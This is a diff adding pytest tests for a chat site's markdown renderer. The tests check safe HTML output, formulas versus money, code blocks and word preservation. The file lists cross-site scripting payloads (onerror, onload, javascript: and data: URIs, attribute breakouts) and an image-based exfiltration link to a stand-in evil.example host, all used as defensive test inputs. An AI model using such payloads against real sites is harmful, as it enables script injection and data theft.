@@ -1,0 +1,211 @@
+"""Model text as HTML: what is shown, what never is, and that no text vanishes. The policy on links, images, money."""
+
+from __future__ import annotations
+
+import re
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from chatsite.chat.markdown import blocks, render
+
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '<iframe srcdoc="<script>1</script>">',
+    "```html\n</code></pre><script>1</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    '[a](https://ok.example "x\\" onmouseover=\\"alert(1)")',
+    "[a](javascript:alert(1)) [b](jAvAsCrIpT&colon;alert(1)) <javascript:alert(1)>",
+    "[a](data:text/html;base64,PHNjcmlwdD4=) ![i](data:image/svg+xml,x) [v](vbscript:x)",
+    "[a]: javascript:alert(1)\n\n[a]",
+    '<a href="https://x" hx-get="/logout" style="color:red" id="composer">x</a>',
+    "| a |\n|:-:|\n| <b style='x'>c</b> |",
+    "$<script>alert(1)</script>$ and \\[<img src=x>\\]",
+]
+
+
+class Elements(HTMLParser):
+    """The elements and attributes of a piece of HTML, and its text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def assert_safe(html: str) -> None:
+    for tag, attributes in Elements(html).found:
+        assert tag not in {"script", "img", "iframe", "svg", "style", "input", "form", "object", "link", "meta"}
+        for name, value in attributes.items():
+            assert name in {"href", "rel", "target", "class", "title", "type", "data-act", "start"}, (tag, name)
+            if name == "href":
+                assert value
+                assert re.match(r"(https?:|mailto:)", value, re.IGNORECASE)
+        if tag == "a":
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+            assert attributes["target"] == "_blank"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_becomes_harmless(text: str) -> None:
+    for end in range(len(text) + 1):
+        assert_safe(render(text[:end]))
+
+
+@pytest.mark.parametrize(
+    ("text", "num_formulas"),
+    [
+        ("It costs $5 to $10, or **$750** a month.", 0),
+        ("From $5-$10, $5/$10, US$ 5 and 5$.", 0),
+        ("$1,000 in the bank, $2,000 in debt.", 0),
+        ("If $x^2+y^2=z^2$ then $n$ is 5", 2),
+        ("$5x + 3 = y$", 1),
+        ("$$E = mc^2$$", 1),
+        ("$$\n\\begin{pmatrix} x \\\\ y \\end{pmatrix}\n$$", 1),
+        ("\\[\na\n+ b\n= c\n\\]", 1),
+        ("\\[\na\n\\] and `\\(user\\)` and $\\frac{1$", 1),
+        ("\\(p^*\\) and \\(q^*\\)", 2),
+        ("```sh\necho $1 \\(x\\) **no** <b>\n```", 0),
+        ("an open \\[ bracket and a lone $ sign", 0),
+    ],
+)
+def test_formulas_are_told_from_money(text: str, num_formulas: int) -> None:
+    assert render(text).count('class="math"') == num_formulas
+
+
+def test_formula_keeps_its_source() -> None:
+    source = "\\(a_1 * b_1 * c_1 \\cdot \\{x\\}\\)"
+    assert Elements(render(source)).text.strip() == source
+
+
+def test_raw_html_shows_escaped() -> None:
+    assert render("<h1>Hi</h1> <div cla") == "<p>&lt;h1&gt;Hi&lt;/h1&gt; &lt;div cla</p>\n"
+
+
+def test_names_keep_their_underscores_and_tildes() -> None:
+    html = render("Call __init__ and snake_case_name; 20~25°C, **__main__**")
+    assert "__init__ and snake_case_name; 20~25°C" in html
+    assert "<strong>__main__</strong>" in html
+
+
+def test_strong_underscores_still_work() -> None:
+    assert "<strong>Two words</strong>" in render("__Two words__")
+
+
+def test_image_is_a_link_that_names_its_host() -> None:
+    html = render("![chart](https://evil.example/?q=SECRET)")
+    assert "<img" not in html
+    assert ">chart (image at evil.example)</a>" in html
+
+
+def test_relative_links_stay_text() -> None:
+    assert "<a" not in render("[leave](/accounts/logout/) [x](#composer) [y](//evil.example)")
+
+
+def test_link_definition_serves_later_blocks_and_is_shown() -> None:
+    html = render("[one][1]\n\n[1]: https://example.org/a 'Title'\n\n[two][1]")
+    assert "<p>[one][1]</p>" in html
+    assert '[1]: <a href="https://example.org/a"' in html
+    assert re.search(r'<a href="https://example.org/a"[^>]*title="Title">two</a>', html)
+
+
+def test_code_block_names_its_language_and_keeps_its_text() -> None:
+    code = 'def f(x):\n\n    return "<b>" + x  # \t é\n'
+    html = render(f"```python title=x\n{code}```")
+    assert html.startswith('<figure class="code"><figcaption><span>python</span>')
+    shown = re.search(r"<code>(.*)</code>", html, re.DOTALL)
+    assert shown
+    assert unescape(re.sub("<[^>]+>", "", shown[1])) == code
+    assert 'class="c-k"' in html
+
+
+def test_unknown_language_and_long_code_show_plain() -> None:
+    assert "c-" not in re.sub("figure.*?figcaption>", "", render("```klingon\ndef x\n```"))
+    assert 'class="c-' not in render("```python\n" + "def x(): pass\n" * 3000 + "```")
+
+
+def test_nested_fences_respect_their_lengths() -> None:
+    html = render("````md\n```py\nx = 1\n```\n````\n\nafter")
+    assert html.count("<figure") == 1
+    assert "```py\nx = 1\n```" in html
+    assert html.endswith("<p>after</p>\n")
+
+
+def test_tables_scroll_in_a_frame_and_align_by_class() -> None:
+    html = render("| a | b |\n|:-:|--:|\n| 1 | `x` |")
+    assert html.startswith('<div class="table"><table>')
+    assert '<th class="center">a</th>' in html
+    assert '<td class="right"><code>x</code></td>' in html
+    assert "style" not in html
+
+
+def test_task_lists_show_boxes() -> None:
+    html = render("- [ ] open\n- [x] done\n- [link](https://x.org)")
+    assert '<li class="task">☐ open</li>' in html
+    assert '<li class="task">☑ done</li>' in html
+
+
+def test_headings_rank_below_those_of_the_page() -> None:
+    assert render("# a\n\n###### f\n\nset\n===") == "<h3>a</h3>\n<h6>f</h6>\n<h3>set</h3>\n"
+
+
+def test_too_deep_nesting_shows_as_text() -> None:
+    html = render(">" * 200 + " deep words")
+    assert "deep words" in html
+    assert_safe(html)
+
+
+def test_entities_and_escapes_show() -> None:
+    assert render(r"a &amp; b &lt; \* \_ &copy;") == "<p>a &amp; b &lt; * _ ©</p>\n"
+
+
+def test_empty_text_has_no_blocks() -> None:
+    assert blocks("") == []
+    assert blocks("\n \n") == []
+
+
+PIECES = st.sampled_from(
+    [
+        *"< > & \" ' ` ``` ~~~ # ## - * + _ ** __ [ ] ( ) ! | : --- === $ $$ \\ \\[ \\] \\( \\) 1. 2) > word".split(),
+        *"https://a.b javascript: x <script> onload= style= &colon; &#106;".split(),
+        *(" ", "\n", "\n\n", "    ", "  ", "\t"),
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=60).map("".join))
+@example("[x](https://a.b\n'onload=')")
+@settings(deadline=None, max_examples=300)
+def test_any_text_renders_safe(text: str) -> None:
+    assert_safe(render(text))
+
+
+MARKS = st.sampled_from(
+    ["- ", "1. ", "> ", "# ", "    ", "```\n", "|", "**", "\n", "\n\n", " ", "[", "]: ", "$", "\\", "  "]
+)
+
+
+@given(st.lists(MARKS, max_size=30), st.integers(1, 4))
+@settings(deadline=None, max_examples=300)
+def test_no_word_vanishes(marks: list[str], every: int) -> None:
+    text = ""
+    words = []
+    for number, mark in enumerate(marks):
+        text += mark
+        if number % every == 0:
+            words.append(f"w{number}w")
+            text += words[-1] + " "
+    shown = unescape(Elements(render(text)).text)
+    assert [word for word in words if word not in shown] == []
